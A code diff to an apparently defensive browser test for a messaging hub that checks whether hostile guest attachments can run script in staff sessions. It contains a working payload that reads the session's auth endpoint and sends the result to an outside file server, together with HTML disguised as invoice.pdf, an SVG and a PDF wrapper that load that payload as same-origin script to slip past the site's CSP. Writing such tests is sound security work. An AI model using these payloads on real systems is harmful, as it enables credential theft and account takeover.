@@ -5,11 +5,13 @@ import type { Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { ADMIN, browserAvailable, type Hub, openThread, signIn, startHub } from "./hub-harness";
 
-// A guest's attachments are hostile input. Here a guest sends an HTML page named invoice.pdf, an SVG
-// carrying a script and a PDF with HTML inside, from a file server reached by host name (as Gupshup's
-// media URLs are); the real server downloads them; a signed-in staff member opens each one in Chromium.
-// Each file's script, if it ever ran as a page of ours, would leave a mark in our origin's storage and
-// read /api/auth/me (the CSRF token, the way to an ADMIN API key) to send it back to the file server.
+// A guest's attachments are hostile input. The attack found from outside: a guest sends a "file" that
+// is JavaScript, then an HTML page named invoice.pdf (and an SVG) that loads it as same-origin script
+// from /api/messages/<id>/media, which the app's own CSP (`script-src 'self'`) allows when that file is
+// served with the type the guest declared. Here the files come from a file server reached by host name
+// (as Gupshup's media URLs are); the real server downloads them; a signed-in staff member opens each one
+// in Chromium. The guest's script, if it ever ran as ours, would leave a mark in our origin's storage and
+// read /api/auth/me (the CSRF token, the way to an ADMIN API key) to send it home to the file server.
 
 const SECRET = randomBytes(24).toString("base64url");
 const GUEST = "Mallory Guest";
@@ -18,22 +20,22 @@ const GUEST_PHONE = "919876500011";
 let hub: Hub;
 let files: Server;
 let filesUrl = "";
+/** Where the guest's script is served from by the hub, once it is stored. */
+let scriptPath = "/api/messages/0/media";
 /** What the guest's scripts managed to send home (path and query of each request to /report). */
 const reports: string[] = [];
 
-const payload = (name: string) => `
-  localStorage.setItem("pwned-${name}", "ran");
-  fetch("/api/auth/me", { credentials: "include" })
-    .then((r) => r.text())
-    .then((me) => fetch(FILES + "/report?${name}=" + encodeURIComponent(me), { mode: "no-cors" }))
-    .catch((e) => { new Image().src = FILES + "/report?${name}-failed=" + encodeURIComponent(String(e)); });`;
-
 function hostileFiles(): Record<string, string> {
-  const script = (name: string) => `const FILES = ${JSON.stringify(filesUrl)};${payload(name)}`;
+  const inline = `localStorage.setItem("pwned-inline", "ran")`;
   return {
-    "/invoice.pdf": `<!doctype html><title>Invoice</title><img src="${filesUrl}/report?html-img"><script>${script("html")}</script>`,
-    "/map.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${script("svg")}</script></svg>`,
-    "/receipt.pdf": `%PDF-1.4\n<html><body><script>${script("pdf")}</script></body></html>`,
+    "/payload.js": `
+      localStorage.setItem("pwned-" + (document.contentType || "script"), "ran");
+      fetch("/api/auth/me", { credentials: "include" })
+        .then((r) => r.text())
+        .then((me) => fetch(${JSON.stringify(filesUrl)} + "/report?me=" + encodeURIComponent(me), { mode: "no-cors" }));`,
+    "/invoice.pdf": `<!doctype html><title>Invoice</title><img src="${filesUrl}/report?html-img"><script src="${scriptPath}"></script><script>${inline}</script>`,
+    "/map.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><script xlink:href="${scriptPath}"/><script>${inline}</script></svg>`,
+    "/receipt.pdf": `%PDF-1.4\n<html><body><script src="${scriptPath}"></script></body></html>`,
   };
 }
 
@@ -61,7 +63,7 @@ async function guestSends(type: "file" | "image", url: string, declared: string,
 }
 
 const pwnedMarks = (page: Page) =>
-  page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("pwned")));
+  page.evaluate<string[]>(`Object.keys(localStorage).filter((key) => key.startsWith("pwned"))`);
 
 describe.skipIf(!browserAvailable())("a guest's hostile attachments in the browser", () => {
   beforeAll(async () => {
@@ -88,6 +90,14 @@ describe.skipIf(!browserAvailable())("a guest's hostile attachments in the brows
 
   it("offers them as downloads, and opening them runs no script and reaches no API", async () => {
     const page = await signIn(hub, ADMIN);
+    const stored = page.locator('figure.media[data-media-status="STORED"]');
+    // First the script, as a "file"; the pages that load it are written once its address is known.
+    await guestSends("file", `${filesUrl}/payload.js`, "text/javascript", "payload.js");
+    await openThread(page, GUEST);
+    await expect.poll(() => stored.count(), { timeout: 90_000 }).toBe(1);
+    scriptPath = (await stored.locator("a").first().getAttribute("href")) ?? "";
+    expect(scriptPath).toMatch(/^\/api\/messages\/\d+\/media$/);
+
     await guestSends("file", `${filesUrl}/invoice.pdf`, "text/html", "invoice.pdf");
     await guestSends("image", `${filesUrl}/map.svg`, "image/svg+xml");
     await guestSends("file", `${filesUrl}/receipt.pdf`, "application/pdf", "receipt.pdf");
@@ -98,16 +108,18 @@ describe.skipIf(!browserAvailable())("a guest's hostile attachments in the brows
       media: { type: "document", url: `${filesUrl}/invoice.pdf`, filename: "statement.pdf" },
     });
 
-    await openThread(page, GUEST);
-    const stored = page.locator('figure.media[data-media-status="STORED"]');
-    await expect.poll(() => stored.count(), { timeout: 90_000 }).toBe(4);
+    await expect.poll(() => stored.count(), { timeout: 90_000 }).toBe(5);
     // Nothing is previewed: not one of them is an image the server recognised.
     expect(await stored.locator("img").count()).toBe(0);
     const links = stored.locator("a.document-link");
-    const hrefs = await links.evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
-    const downloads = await links.evaluateAll((as) => as.map((a) => a.hasAttribute("download")));
-    // The HTML and SVG files download; the PDF (its bytes say PDF) may open in a tab.
-    expect(downloads.filter(Boolean)).toHaveLength(3);
+    const hrefs: string[] = [];
+    const downloads: boolean[] = [];
+    for (const link of await links.all()) {
+      hrefs.push(`${hub.url}${await link.getAttribute("href")}`);
+      downloads.push((await link.getAttribute("download")) !== null);
+    }
+    // The script, HTML and SVG files download; the PDF (its bytes say PDF) may open in a tab.
+    expect(downloads.filter(Boolean)).toHaveLength(4);
 
     for (const href of hrefs) {
       const res = await page.request.get(href);
